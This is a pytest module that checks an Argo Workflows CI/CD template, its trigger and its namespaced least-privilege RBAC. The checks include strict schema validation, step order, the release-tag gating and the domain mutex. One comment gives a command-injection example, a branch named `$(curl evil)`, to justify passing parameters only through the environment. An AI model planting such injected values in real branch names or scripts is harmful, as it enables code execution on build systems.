"""The cicd WorkflowTemplate, its trigger and its RBAC do what the design says.

Strictness first (hera's Argo Workflows v4 models with unknown fields as
errors), then behaviour: the steps and their order, the per-domain mutex fed by
the plan, parameters that reach scripts only through the environment, and
least-privilege roles.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
from pathlib import Path

import pytest

from tests.static.ci_steps import (
    ARGO_EXPRESSION,
    ReleaseRepo,
    make_release_repo,
    map_paths,
    run_script,
    substitute,
)
from tests.static.cluster.support import ROOT, build, of_kind, strict_errors

ARGO = build(ROOT / "argo")
(TEMPLATE,) = of_kind(ARGO, "WorkflowTemplate")
(SENSOR,) = of_kind(ARGO, "Sensor")
TEMPLATES = {t["name"]: t for t in TEMPLATE["spec"]["templates"]}


def workflow_model():
    from hera.workflows.models import Workflow

    return Workflow


def template_model():
    from hera.workflows.models import WorkflowTemplate

    return WorkflowTemplate


def step_names(template: dict) -> list[str]:
    return [step["name"] for group in template["steps"] for step in group]


def test_template_validates_strictly_against_argo_v4():
    assert strict_errors(template_model(), TEMPLATE) == []


def test_template_takes_repo_revision_and_ref():
    names = [p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]]
    assert names == ["repo", "revision", "ref"]


def test_steps_run_in_the_delivery_order():
    main = TEMPLATES[TEMPLATE["spec"]["entrypoint"]]
    assert step_names(main) == [
        "clone", "plan", "unit-tests", "image-exists", "build-image", "deliver",
    ]  # fmt: skip
    assert step_names(TEMPLATES["deliver"]) == ["package", "register", "launch"]
    commands = [
        s["arguments"]["parameters"][0]["value"] for g in TEMPLATES["deliver"]["steps"] for s in g
    ]
    assert commands == ["package", "register", "launch"]
    assert 'python -m ci "$COMMAND"' in TEMPLATES["ci"]["container"]["args"][0]


def test_plan_comes_from_ci_and_feeds_the_domain_mutex():
    assert "python -m ci plan" in TEMPLATES["plan"]["container"]["args"][0]
    mutexes = TEMPLATES["deliver"]["synchronization"]["mutexes"]
    assert [m["name"] for m in mutexes] == ["cicd-{{inputs.parameters.domain}}"]
    main = TEMPLATES[TEMPLATE["spec"]["entrypoint"]]
    (deliver,) = [s for g in main["steps"] for s in g if s["name"] == "deliver"]
    domain = {p["name"]: p["value"] for p in deliver["arguments"]["parameters"]}["domain"]
    assert domain == "{{steps.plan.outputs.parameters.domain}}"
    assert "domain" not in {p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]}


def test_build_uses_a_pinned_in_cluster_builder_and_the_planned_image():
    build_step = TEMPLATES["build-image"]["container"]
    assert build_step["image"].startswith("ghcr.io/osscontainertools/kaniko:v")
    assert "--destination={{inputs.parameters.image}}" in build_step["args"]


def test_parameters_reach_scripts_only_through_the_environment():
    # A branch may be named `$(curl evil)`: never paste it into script text.
    for template in TEMPLATE["spec"]["templates"]:
        body = template.get("container") or template.get("script") or {}
        script = " ".join(body.get("args", [])) + body.get("source", "")
        if body.get("command", [None])[0] in ("bash", "sh"):
            assert "{{" not in script, f"template {template['name']} interpolates into a script"


def test_every_workflow_step_runs_as_the_cicd_account():
    assert TEMPLATE["spec"]["serviceAccountName"] == "cicd"
    accounts = {a["metadata"]["name"] for a in of_kind(ARGO, "ServiceAccount")}
    assert {"cicd", "cicd-trigger", "gitea-webhook"} <= accounts


def test_roles_are_namespaced_and_least_privilege():
    assert not of_kind(ARGO, "ClusterRole") and not of_kind(ARGO, "ClusterRoleBinding")
    rules = {r["metadata"]["name"]: r["rules"] for r in of_kind(ARGO, "Role")}
    assert rules["cicd-executor"] == [
        {
            "apiGroups": ["argoproj.io"],
            "resources": ["workflowtaskresults"],
            "verbs": ["create", "patch"],
        }
    ]
    for rule in (r for role in rules.values() for r in role):
        assert "*" not in rule["verbs"] + rule["resources"] + rule["apiGroups"]
        assert "delete" not in rule["verbs"]


def test_sensor_submits_a_strictly_valid_cicd_workflow():
    trigger = SENSOR["spec"]["triggers"][0]["template"]["argoWorkflow"]
    workflow = trigger["source"]["resource"]
    assert trigger["operation"] == "submit"
    assert strict_errors(workflow_model(), workflow) == []
    assert workflow["spec"]["workflowTemplateRef"] == {"name": "cicd"}
    names = [p["name"] for p in workflow["spec"]["arguments"]["parameters"]]
    assert names == [p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]]


def test_sensor_and_event_source_use_their_own_accounts():
    (source,) = of_kind(ARGO, "EventSource")
    assert source["spec"]["template"]["serviceAccountName"] == "gitea-webhook"
    assert SENSOR["spec"]["template"]["serviceAccountName"] == "cicd-trigger"
    assert source["spec"]["webhook"]["push"]["authSecret"]["name"] == "gitea-webhook"


# --- the clone, plan and delivery steps, run as written ----------------------------------


@pytest.fixture(scope="module")
def release_repo(tmp_path_factory) -> ReleaseRepo:
    return make_release_repo(tmp_path_factory.mktemp("pushed"))


@pytest.fixture(scope="module")
def uv_environment(tmp_path_factory) -> Path:
    # One environment for the module's runs, as one workflow's steps share one.
    return tmp_path_factory.mktemp("argo") / "venv"


@pytest.fixture
def workspace(tmp_path, uv_environment) -> dict[str, Path]:
    """Argo's paths, mapped into a temporary directory."""
    cache = subprocess.run(["uv", "cache", "dir"], capture_output=True, text=True, check=True)
    return {
        "/work/src": tmp_path / "src",
        "/work/venv": uv_environment,
        "/work/uv-cache": Path(cache.stdout.strip()),
        "/tmp/": tmp_path / "pod-tmp",
    }


def _run_argo_step(name: str, values: dict[str, str], paths: dict[str, Path]):
    """The template's container script with Argo's parameters put in its environment."""
    container = TEMPLATES[name]["container"]
    assert container["command"][0] == "bash"
    raw = json.dumps(container)
    unmapped = {p for p in re.findall(r"/work/[\w.-]*", raw) if p not in paths}
    assert not unmapped, f"step {name} uses paths the test does not map: {unmapped}"
    env = {
        e["name"]: substitute(map_paths(e["value"], paths), ARGO_EXPRESSION, values)
        for e in container.get("env", [])
    }
    script = map_paths(container["args"][0], paths)
    paths["/tmp/"].mkdir(parents=True, exist_ok=True)
    return run_script(script, paths["/tmp/"], env, container["command"])


def _clone_and_plan(repo: ReleaseRepo, ref: str, revision: str, paths: dict[str, Path]):
    values = {
        "workflow.parameters.repo": str(repo.path),
        "workflow.parameters.revision": revision,
        "workflow.parameters.ref": ref,
    }
    cloned = _run_argo_step("clone", values, paths)
    assert cloned.returncode == 0, cloned.stderr
    commit = (paths["/tmp/"] / "commit").read_text().strip()
    values["inputs.parameters.sha"] = commit
    return commit, values, _run_argo_step("plan", values, paths)


def test_cicd_refuses_a_release_tag_on_a_branch_off_main(release_repo, workspace):
    # The push of an annotated tag names the tag object: the clone peels it.
    commit, values, planned = _clone_and_plan(
        release_repo, "refs/tags/v9.9.9", release_repo.off_main_tag_object, workspace
    )
    assert commit == release_repo.off_main
    assert planned.returncode == 1, planned.stdout + planned.stderr
    assert "not on main" in planned.stderr
    assert not (workspace["/tmp/"] / "plan" / "domain").exists()

    # Even reached by itself, every delivery step refuses before calling Flyte.
    for command in ("package", "register", "launch"):
        done = _run_argo_step("ci", {**values, "inputs.parameters.command": command}, workspace)
        assert done.returncode == 1, (command, done.stdout + done.stderr)
        assert "not on main" in done.stderr and "flytectl" not in done.stdout


def test_cicd_sends_a_release_tag_on_main_to_production(release_repo, workspace):
    commit, _, planned = _clone_and_plan(
        release_repo, "refs/tags/v1.0.0", release_repo.on_main, workspace
    )
    assert planned.returncode == 0, planned.stdout + planned.stderr
    outputs = {p.name: p.read_text() for p in (workspace["/tmp/"] / "plan").iterdir()}
    assert outputs["domain"] == "production" and outputs["version"] == "v1.0.0"
    assert (
        outputs["image"].startswith("k3d-registry.localhost:5000/") and commit in outputs["image"]
    )
    assert json.loads((workspace["/tmp/"] / "plan.json").read_text())["allowed"] is True


# --- the strict check catches what hera alone lets through -------------------------


def test_rejects_unknown_key_in_the_template():
    broken = copy.deepcopy(TEMPLATE)
    broken["spec"]["templates"][0]["retries"] = 3
    assert strict_errors(template_model(), broken)


def test_rejects_the_pre_v4_singular_mutex():
    broken = copy.deepcopy(TEMPLATE)
    deliver = next(t for t in broken["spec"]["templates"] if t["name"] == "deliver")
    deliver["synchronization"] = {"mutex": {"name": "cicd-{{inputs.parameters.domain}}"}}
    errors = strict_errors(template_model(), broken)
    assert any("mutex" in e for e in errors)


def test_rejects_wrong_types_that_hera_would_coerce():
    broken = copy.deepcopy(TEMPLATE)
    broken["spec"]["activeDeadlineSeconds"] = "7200"
    assert strict_errors(template_model(), broken)
